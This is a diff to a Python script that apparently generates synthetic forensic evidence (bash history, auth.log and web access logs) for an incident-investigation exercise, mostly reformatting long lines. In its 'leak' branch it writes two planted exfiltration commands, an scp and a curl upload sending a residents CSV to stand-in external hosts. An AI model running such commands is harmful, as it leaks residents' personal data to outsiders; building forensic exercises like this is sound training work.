@@ -45,12 +45,17 @@ def _file(path: str, data: bytes, when: str, *, deleted: bool = False) -> Item:
 
 def _shell(leak: bool) -> bytes:
     """Return a bash history with times (HISTTIMEFORMAT: a line of # and the epoch before each command)."""
-    commands = [("2022-06-01 09:02:00", "systemctl status nginx"), ("2022-06-10 09:01:10", "df -h"),
-                ("2022-06-21 16:48:30", "/opt/kyufu/bin/export --out /srv/export/residents_utf8.csv"),
-                ("2022-06-24 10:05:00", "tail -n 50 /var/log/auth.log")]  # fmt: skip
+    commands = [
+        ("2022-06-01 09:02:00", "systemctl status nginx"),
+        ("2022-06-10 09:01:10", "df -h"),
+        ("2022-06-21 16:48:30", "/opt/kyufu/bin/export --out /srv/export/residents_utf8.csv"),
+        ("2022-06-24 10:05:00", "tail -n 50 /var/log/auth.log"),
+    ]
     if leak:
-        commands += [("2022-06-22 23:08:12", "scp /srv/export/residents_utf8.csv drop@203.0.113.45:/tmp/"),
-                     ("2022-06-22 23:12:40", "curl -T /srv/export/residents_utf8.csv https://paste.example.net/up")]  # fmt: skip
+        commands += [
+            ("2022-06-22 23:08:12", "scp /srv/export/residents_utf8.csv drop@203.0.113.45:/tmp/"),
+            ("2022-06-22 23:12:40", "curl -T /srv/export/residents_utf8.csv https://paste.example.net/up"),
+        ]
     return "".join(f"#{int(at(when).timestamp())}\n{text}\n" for when, text in sorted(commands)).encode()
 
 
@@ -68,7 +73,10 @@ def _auth(leak: bool) -> bytes:
         lines.append(
             (
                 when,
-                f"{stamp} {HOST} CRON[{900 + when.hour}]: pam_unix(cron:session): session opened for user root by (uid=0)",
+                (
+                    f"{stamp} {HOST} CRON[{900 + when.hour}]: pam_unix(cron:session): "
+                    "session opened for user root by (uid=0)"
+                ),
             )
         )
         when += timedelta(hours=2)
@@ -80,7 +88,10 @@ def _auth(leak: bool) -> bytes:
         lines.append(
             (
                 when,
-                f"{stamp} {HOST} sshd[2211]: Accepted publickey for op from {source} port 50222 ssh2: ED25519 SHA256:synthetic",
+                (
+                    f"{stamp} {HOST} sshd[2211]: Accepted publickey for op from {source} "
+                    "port 50222 ssh2: ED25519 SHA256:synthetic"
+                ),
             )
         )
     return "".join(f"{line}\n" for _, line in sorted(lines)).encode()
@@ -101,7 +112,8 @@ def _access() -> bytes:
     while when <= LAST:
         page = pages[when.hour % 4]
         lines.append(
-            f'192.0.2.{20 + when.hour} - - [{when:%d/%b/%Y:%H:%M:%S} +0900] "GET {page} HTTP/1.1" 200 {512 + when.hour} "-" "Mozilla/5.0"'
+            f'192.0.2.{20 + when.hour} - - [{when:%d/%b/%Y:%H:%M:%S} +0900] "GET {page} HTTP/1.1" '
+            f'200 {512 + when.hour} "-" "Mozilla/5.0"'
         )
         when += timedelta(hours=1)
     return "".join(f"{line}\n" for line in lines).encode()
